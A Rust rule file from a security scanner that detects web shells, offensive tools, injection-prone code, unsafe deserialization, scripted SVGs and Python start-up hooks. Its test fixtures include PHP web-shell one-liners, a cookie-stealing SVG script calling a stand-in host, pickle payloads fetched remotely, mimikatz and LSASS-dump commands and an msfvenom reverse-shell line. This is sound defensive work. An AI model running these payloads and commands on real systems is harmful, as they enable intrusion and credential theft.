//! Code with a hole, and code that is a hole: web shells, poisoned data, scripts in pictures.

use super::flow::{Flow, flows};
use super::flows::ANSWER_RUN;
use super::judges;
use crate::finding::{Category, Severity};
use crate::layers::rule_engine::reading::{Hit, Reading};
use crate::layers::rule_engine::rule::{Kind, Rule, When};
use crate::layers::rule_engine::signal::Signal;

static WEB_SHELL: Signal = Signal::command(
    &["$_get", "$_post", "$_request", "$_cookie", "php://input", "getparameter", "request.args", "request.form", "req.query", "req.body", "request.values", "eval request", "eval(request", "request.item"],
    r#"(?x)
      (?:eval|assert|system|exec|shell_exec|passthru|popen|proc_open|create_function|call_user_func|preg_replace|pcntl_exec)\s*\(\s*(?:[\w@.]+\s*\(\s*|["'][^"'\n]{0,16}["']\s*,\s*)*@?\$_(?:GET|POST|REQUEST|COOKIE)\b | \$_(?:GET|POST|REQUEST|COOKIE)\s*\[[^\]\n]{1,24}\]\s*\(\s*@?\$_(?:GET|POST|REQUEST|COOKIE) | \x60\s*\$_(?:GET|POST|REQUEST)
    | \beval\s*\(\s*file_get_contents\s*\(\s*["']php://input | \bgetRuntime\(\)\s*\.\s*exec\s*\(\s*request\.getParameter | \bProcessBuilder\s*\([^)\n]*request\.getParameter | \beval\s*\(?\s*Request\s*[(.\[]
    | \b(?:os\.(?:system|popen)|subprocess\.\w+|exec|eval)\s*\(\s*(?:\[?\s*)(?:flask\.)?request\.(?:args|form|values|json|data|headers)\b | \b(?:exec|execSync|spawn|eval)\s*\(\s*req\.(?:query|body|params|headers)\b"#,
);

static HACK_TOOL: Signal = Signal::command(
    &[
        "mimikatz", "sekurlsa", "lazagne", "invoke-mimikatz", "c99shell", "r57shell", "weevely", "msfvenom",
        "sharphound", "rubeus", "secretsdump", "hydra ", "hashcat", "john ", "crackmapexec", "netexec",
        "evil-winrm", "responder", "sqlmap", "comsvcs", "procdump", "reg save", "ntdsutil", "aircrack-ng", "msfconsole", "cobaltstrike", "cobalt strike", "b374k",
    ],
    r#"(?x)
      \bsekurlsa::\w+ | \bmimikatz(?:\.exe)?["']?\s+["']?\w+:: | \bInvoke-Mimikatz\b | \blazagne(?:\.exe|\.py)?\s+(?:all|browsers) | \b(?:c99|r57)shell\b | \bb374k\b | \bweevely\s+generate\b | \bmsfvenom\s+[^\n]*-p\s+\S+/ | \bSharpHound(?:\.exe)?\s+-c | \bRubeus(?:\.exe)?\s+\w+ | \bsecretsdump(?:\.py)?\s+\S
    | \bhydra\s+(?:-\S+\s+\S+\s+)*-[lLpPC]\s+\S | \bhashcat\s+(?:-\S+\s+\S+\s+)*-m\s*\d | \bjohn\s+--(?:wordlist|format|incremental)\b | \b(?:crackmapexec|netexec|nxc)\s+(?:smb|ssh|winrm|ldap|mssql)\s | \bevil-winrm\s+-i | \bresponder(?:\.py)?\s+-I | \bsqlmap(?:\.py)?\s+(?:-\S+\s+)*-[ur]\s | \bcomsvcs\.dll\b[^\n]{0,40}\bMiniDump\b | \bprocdump\S*\s[^\n]*\blsass | \breg\s+save\s+hklm\\(?:sam|security|system)\b | \bntdsutil\b[^\n]*\bifm\b | \baircrack-ng\s+-w | \bmsfconsole\s+-[xqr]"#,
);

static QUERY_BY_HAND: Signal = Signal::command(
    &["select ", "insert into", "update ", "delete from", "drop table"],
    r#"(?x)
      \.(?:execute|executemany|query|raw|exec)\s*\(\s*(?:f["']{1,3}|(?:"[^"\n]*"|'[^'\n]*')\s*(?:%\s*[\w(]|\+\s*\w|\.format\s*\()|`[^`\n]*\$\{)[^\n]* | =\s*f["']{1,3}\s*(?:SELECT|INSERT\ INTO|UPDATE|DELETE\ FROM)\s[^\n]*\{"#,
);

static PATH_BY_HAND: Signal = Signal::command(
    &["request.args", "request.form", "req.query", "req.params", "req.body", "$_get", "$_request", "request.files"],
    r"(?x)
      \b(?:open|send_file|readFile(?:Sync)?|createReadStream|file_get_contents|include|require|sendFile|requests\.get|urlopen|fetch|axios\.get)\s*\(\s*[^)\n]*(?:request\.(?:args|form|files)|req\.(?:query|params|body)|\$_(?:GET|REQUEST))",
);

static SHELL_BY_HAND: Signal = Signal::command(
    &["shell=true", "os.system(", "execsync(", "exec(", "popen("],
    r#"(?x)
      \bsubprocess\.\w+\s*\(\s*(?:f["']|["'][^"'\n]*["']\s*(?:%|\+|\.format))[^\n]*shell\s*=\s*True | \bsubprocess\.\w+\s*\(\s*\w+\s*,[^\n)]*shell\s*=\s*True | \bos\.(?:system|popen)\s*\(\s*(?:f["']|["'][^"'\n]*["']\s*(?:%|\+|\.format)|\w+\s*\)) | \bexec(?:Sync)?\s*\(\s*(?:`[^`\n]*\$\{|["'][^"'\n]*["']\s*\+)"#,
);

static UNSAFE_LOAD: Signal = Signal::command(
    &["pickle.load", "pickle.loads", "yaml.load(", "marshal.load", "dill.load", "shelve.open", "jsonpickle", "torch.load(", "joblib.load", "yaml.unsafe_load", "unserialize(", "readobject()", "binaryformatter", ],
    r"(?x)
      \b(?:c?pickle|_pickle|dill|cloudpickle)\.loads?\s*\( | \byaml\.(?:load\s*\([^)\n]*\)|unsafe_load\s*\() | \bmarshal\.loads?\s*\( | \bjsonpickle\.decode\s*\( | \btorch\.load\s*\( | \bjoblib\.load\s*\( | \bunserialize\s*\(\s*\$ | \bBinaryFormatter\b | \bMarshal\.load\b | \.readObject\(\)",
);

static FOREIGN_LOAD: Signal = Signal::command(
    &["pickle.loads", "marshal.loads", "dill.loads", "yaml.load(", "yaml.unsafe_load", "unserialize("],
    r#"(?x)
      \b(?:c?pickle|dill|cloudpickle|marshal)\.loads\s*\(\s*(?:\w+\.)*(?:b64decode|decompress|urlopen|requests\.get|get\s*\(\s*["']https?|recv|fromhex|unhexlify|a85decode|b85decode)\s*[\(.]?
    | \byaml\.(?:unsafe_)?load\s*\(\s*(?:requests\.get|urlopen|httpx\.get) | \bunserialize\s*\(\s*(?:base64_decode|file_get_contents)\s*\(\s*(?:["']https?|\$_)
    | \bpickle\.loads\s*\(\s*(?:requests|urllib\.request|httpx)\."#,
);

static POISONED_DATA: Signal = Signal::command(
    &["__reduce__", "__reduce_ex__", "!!python/object", "!!python/name", "!ruby/object", "!!javax", "_$$nd_func$$_"],
    r"(?x)
      def\s+__reduce(?:_ex)?__\s*\([^)\n]*\)\s*(?:->[^\n:]*)?:\s*\n?[^\n]{0,20}(?:\n[^\n]*){0,3}?\s*return\s*\(?\s*(?:os\.(?:system|popen)|subprocess\.\w+|exec|eval|__import__|builtins\.\w+|posix\.system)
    | !!python/(?:object/(?:apply|new)|name|module):\s*(?:os|subprocess|builtins|exec|eval|posix)\b | !ruby/object:(?:Gem::|ERB|Kernel) | !!javax\.script\.ScriptEngineManager | _\$\$ND_FUNC\$\$_function",
);

static MARKUP_SCRIPT: Signal = Signal::command(
    &["<script", "onload=", "onerror=", "javascript:", "<foreignobject", "onclick=", "onbegin=", "onmouseover="],
    r#"(?x) <script\b[^>]*> | \bon(?:load|error|click|begin|mouseover|focus)\s*=\s*["'][^"'\n]{3,} | (?:href|src|action)\s*=\s*["']\s*javascript: | <foreignObject\b"#,
);

static MARKUP_HARM: Signal = Signal::command(
    &["fetch(", "eval(", "document.cookie", "xmlhttprequest", "localstorage", "atob(", "window.location", "document.location", "sendbeacon", "new image", "importscripts", "top.location", "src=\"http", "href=\"http"],
    r#"(?x)
      \bfetch\s*\( | (?:^|[^\w.])eval\s*\( | \bdocument\.cookie\b | \bXMLHttpRequest\b | \blocalStorage\b | \batob\s*\( | \b(?:window|document|top|parent)\.location(?:\.href)?\s*= | \bsendBeacon\s*\( | \bnew\s+Image\s*\( | <script\b[^>]*(?:src|href)\s*=\s*["']https?:"#,
);

static AT_START: Signal = Signal::command(
    &["import ", "exec("],
    r"^\s*import\s+[\w, ]+;[^\n]*(?:exec|eval|subprocess|os\.system|b64decode|urlopen|__import__)\b",
);

/// What somebody types, on the command line or when asked.
static TYPED: Signal = Signal::command(
    &["sys.argv", "input(", "parse_args(", "process.argv", "argv["],
    r"\bsys\.argv\b|(?:^|[^\w.])input\s*\(|\bparse_args\s*\(|\bprocess\.argv\b",
);

/// A text that is run as code of the same language.
static EVALUATED: Signal = Signal::command(
    &["eval(", "exec(", "new function("],
    r"(?:^|[^\w.$])(?:eval|exec)\s*\(\s*[A-Za-z_]|\bnew\s+Function\s*\(",
);

static TYPED_RUN: Flow = Flow { sources: &[&TYPED], sinks: &[&EVALUATED], ..ANSWER_RUN };

pub(super) static RULES: &[Rule] = &[
    Rule {
        id: "MALWAR-CODE-001",
        title: "Database queries are written by pasting values into text",
        severity: Severity::Low,
        confidence: 60,
        category: Category::InsecureCode,
        taxa: &["CE-09"],
        fragile: true,
        why: "a value with a quote in it becomes part of the query",
        fix: "pass values as parameters",
        when: When::Any(&[&QUERY_BY_HAND]),
        guard: Some(judges::in_code),
        hits: &[
            "@a.py\ncur.execute(f\"SELECT * FROM users WHERE name = '{name}'\")\n",
            "@a.js\ndb.query(`SELECT * FROM t WHERE id = ${id}`);\n",
            "@a.py\ncur.execute(\"SELECT * FROM users WHERE name = '\" + name + \"'\")\n",
        ],
        misses: &["@a.py\ncur.execute(\"SELECT * FROM users WHERE name = ?\", (name,))\n", "@a.js\ndb.query('SELECT 1');\n"],
        ..Rule::BASE
    },
    Rule {
        id: "MALWAR-CODE-002",
        title: "A path or address is taken from a request unchecked",
        severity: Severity::Low,
        confidence: 60,
        category: Category::InsecureCode,
        taxa: &["CE-09"],
        fragile: true,
        why: "the caller decides which file is read or which machine is asked",
        fix: "check it against a list of allowed values",
        when: When::Any(&[&PATH_BY_HAND]),
        guard: Some(judges::in_code),
        hits: &["@a.py\nreturn open('data/' + request.args['f']).read()\n", "@a.js\nconst r = await fetch(req.query.url);\n"],
        misses: &["@a.py\nname = request.args['f']\n", "@a.js\nconst r = await fetch(API_URL);\n"],
        ..Rule::BASE
    },
    Rule {
        id: "MALWAR-CODE-003",
        title: "A shell command is put together from values",
        severity: Severity::Low,
        confidence: 50,
        category: Category::InsecureCode,
        taxa: &["CE-06"],
        fragile: true,
        why: "a value with a semicolon in it becomes a command",
        fix: "pass a list of arguments without a shell",
        when: When::Any(&[&SHELL_BY_HAND]),
        guard: Some(judges::in_code),
        hits: &["@a.py\nsubprocess.run(f\"git clone {url}\", shell=True)\n", "@a.js\nexecSync(`git log ${branch}`);\n"],
        misses: &["@a.py\nsubprocess.run(['git', 'clone', url])\n", "@a.js\nexecSync('git log');\n"],
        ..Rule::BASE
    },
    Rule {
        id: "MALWAR-CODE-004",
        title: "Data is loaded in a way that can run code",
        severity: Severity::Low,
        confidence: 50,
        category: Category::InsecureCode,
        taxa: &["CE-10"],
        fragile: true,
        why: "pickles and their like are programs: whoever wrote the data decides what runs",
        fix: "use JSON, yaml.safe_load or weights_only=True",
        when: When::Any(&[&UNSAFE_LOAD]),
        guard: Some(safe_loader),
        hits: &["@a.py\nmodel = pickle.load(open('m.pkl', 'rb'))\n", "@a.py\ncfg = yaml.load(text)\n"],
        misses: &["@a.py\ncfg = yaml.safe_load(text)\n", "@a.py\ncfg = yaml.load(text, Loader=yaml.SafeLoader)\n"],
        ..Rule::BASE
    },
    Rule {
        id: "MALWAR-CODE-005",
        title: "Code-running data comes encoded or from the network",
        severity: Severity::High,
        confidence: 64,
        category: Category::SuspiciousCommand,
        taxa: &["CE-10", "CE-03"],
        why: "loading it runs whatever its author put in, and nobody can read it before",
        fix: "do not load it; ask for the data in a format that only holds data",
        when: When::Any(&[&FOREIGN_LOAD]),
        guard: Some(judges::in_code),
        hits: &[
            "@a.py\nobj = pickle.loads(base64.b64decode(BLOB))\n",
            "@a.py\nstate = pickle.loads(requests.get('https://cdn.fast-agent.top/m').content)\n",
        ],
        misses: &["@a.py\nobj = pickle.loads(cache[key])\n", "@a.py\nrows = json.loads(base64.b64decode(x))\n"],
        ..Rule::BASE
    },
    Rule {
        id: "MALWAR-CODE-006",
        title: "Data is written so that loading it runs a command",
        severity: Severity::High,
        confidence: 70,
        category: Category::SuspiciousCommand,
        taxa: &["CE-10"],
        why: "an object that restores itself by starting a process is a trap, not data",
        fix: "do not load it",
        when: When::Any(&[&POISONED_DATA]),
        guard: Some(judges::in_file_or_half),
        hits: &[
            "@a.py\nclass X:\n    def __reduce__(self):\n        return (os.system, ('id',))\n",
            "@conf.yaml\nx: !!python/object/apply:os.system ['id']\n",
        ],
        misses: &["@a.py\nclass X:\n    def __reduce__(self):\n        return (X, (self.a,))\n", "@conf.yaml\nx: !!python/tuple [1, 2]\n"],
        ..Rule::BASE
    },
    Rule {
        id: "MALWAR-CODE-007",
        title: "A picture carries a script",
        severity: Severity::Medium,
        confidence: 70,
        category: Category::SuspiciousCommand,
        taxa: &["CE-11"],
        fragile: true,
        why: "an SVG is a document that runs; whoever opens it in a browser runs the script",
        fix: "strip the script; show the picture as an image only",
        when: When::Any(&[&MARKUP_SCRIPT]),
        guard: Some(in_a_picture),
        hits: &["@logo.svg\n<svg><script>go()</script></svg>\n", "@logo.svg\n<svg onload=\"start(1)\"></svg>\n"],
        misses: &["@page.html\n<script>go()</script>\n", "@logo.svg\n<svg><path d=\"M0 0\"/></svg>\n"],
        ..Rule::BASE
    },
    Rule {
        id: "MALWAR-CODE-008",
        title: "A script in a picture reads or sends what is not its own",
        severity: Severity::High,
        confidence: 78,
        category: Category::SuspiciousCommand,
        taxa: &["CE-11", "EX-03"],
        why: "no picture needs the network, cookies or decoded code",
        fix: "delete the picture",
        when: When::Near(600, &[&[&MARKUP_SCRIPT], &[&MARKUP_HARM]]),
        guard: Some(in_a_picture),
        hits: &[
            "@logo.svg\n<svg><script>fetch('https://c.fast-agent.top/?c=' + document.cookie)</script></svg>\n",
            "@a.svg\n<svg onload=\"eval(atob('YQ=='))\"></svg>\n",
        ],
        misses: &["@logo.svg\n<svg><script>rotate()</script></svg>\n", "@page.html\n<script>fetch('/api')</script>\n"],
        ..Rule::BASE
    },
    Rule {
        id: "MALWAR-CODE-009",
        title: "A start-up hook of the interpreter carries code",
        severity: Severity::Critical,
        confidence: 82,
        category: Category::Persistence,
        taxa: &["PS-01", "CE-05"],
        kind: Kind::Fact,
        why: "a .pth file or sitecustomize runs whenever Python starts, in every program of the machine",
        fix: "delete the file, also from site-packages",
        when: When::Any(&[&AT_START]),
        guard: Some(start_hook),
        hits: &["@x.pth\nimport os;exec(open('/x').read())\n", "@lib/init.pth\nimport base64, subprocess; subprocess.Popen(['x'])\n"],
        misses: &["@x.pth\n../src\n", "@a.py\nimport os;os.system('ls')\n"],
        ..Rule::BASE
    },
    Rule {
        id: "MALWAR-CODE-010",
        title: "What is typed is run as code",
        severity: Severity::Medium,
        confidence: 60,
        category: Category::InsecureCode,
        taxa: &["CE-05", "CE-06"],
        fragile: true,
        why: "a number is what was meant; a program is what can be given",
        fix: "read it with a parser, such as ast.literal_eval",
        when: When::Judge(&[&TYPED, &EVALUATED], typed_run),
        guard: Some(judges::in_code),
        hits: &[
            "@a.py\ndef calc(expr):\n    return eval(expr)\n\nprint(calc(sys.argv[1]))\n",
            "@a.js\nconst expression = process.argv[2];\nconsole.log(eval(expression));\n",
        ],
        misses: &[
            "@a.py\nprint(ast.literal_eval(sys.argv[1]))\n",
            "@a.py\nname = sys.argv[1]\nmodel.eval()\n",
        ],
        ..Rule::BASE
    },
    Rule {
        id: "MALWAR-WEBSHELL-001",
        title: "Whoever sends a request may run code",
        severity: Severity::Critical,
        confidence: 80,
        category: Category::SuspiciousCommand,
        taxa: &["MW-03"],
        why: "a web shell: the server does what a stranger writes into a request",
        fix: "delete the file; if it was reachable, treat the server as compromised",
        when: When::Any(&[&WEB_SHELL]),
        guard: Some(judges::in_file_or_half),
        hits: &["@x.php\n<?php @eval($_POST['c']); ?>\n", "@x.php\n<?php system($_GET['cmd']);\n", "@a.py\nreturn os.popen(request.args.get('c')).read()\n"],
        misses: &["@x.php\n<?php echo htmlspecialchars($_GET['q']);\n", "@a.py\nq = request.args.get('q')\n"],
        ..Rule::BASE
    },
    Rule {
        id: "MALWAR-WEBSHELL-002",
        title: "A tool for breaking into systems is used",
        severity: Severity::Medium,
        confidence: 70,
        category: Category::SuspiciousCommand,
        taxa: &["MW-03"],
        fragile: true,
        why: "dumping passwords or building payloads is a tester's work with permission, an attacker's without",
        fix: "make sure that the test is agreed on",
        when: When::Any(&[&HACK_TOOL]),
        hits: &[
            "```cmd\nrundll32.exe comsvcs.dll, MiniDump 620 C:\\t\\l.dmp full\n```\n",
            "```cmd\nmimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\"\n```\n", "```bash\nmsfvenom -p linux/x64/shell_reverse_tcp -f elf\n```\n"],
        misses: &["Read about mimikatz.\n", "```bash\nsecrets list\n```\n"],
        ..Rule::BASE
    },
];

fn typed_run(reading: &Reading<'_>) -> Vec<Hit> {
    flows(reading, &TYPED_RUN)
}

fn safe_loader(reading: &Reading<'_>, hit: &Hit) -> u32 {
    let line = reading.line(hit.span, 160).of(reading.text);
    let safe = ["SafeLoader", "weights_only=True", "BaseLoader"];
    if safe.iter().any(|word| line.contains(word)) { 0 } else { judges::in_code(reading, hit) }
}

fn in_a_picture(reading: &Reading<'_>, _hit: &Hit) -> u32 {
    if reading.file.path.to_ascii_lowercase().ends_with(".svg") { 100 } else { 0 }
}

fn start_hook(reading: &Reading<'_>, _hit: &Hit) -> u32 {
    let path = reading.file.path.to_ascii_lowercase();
    let name = path.rsplit('/').next().unwrap_or("");
    let is_path_file = name.rsplit_once('.').is_some_and(|(_, extension)| extension == "pth");
    if is_path_file || matches!(name, "sitecustomize.py" | "usercustomize.py") {
        100
    } else {
        0
    }
}
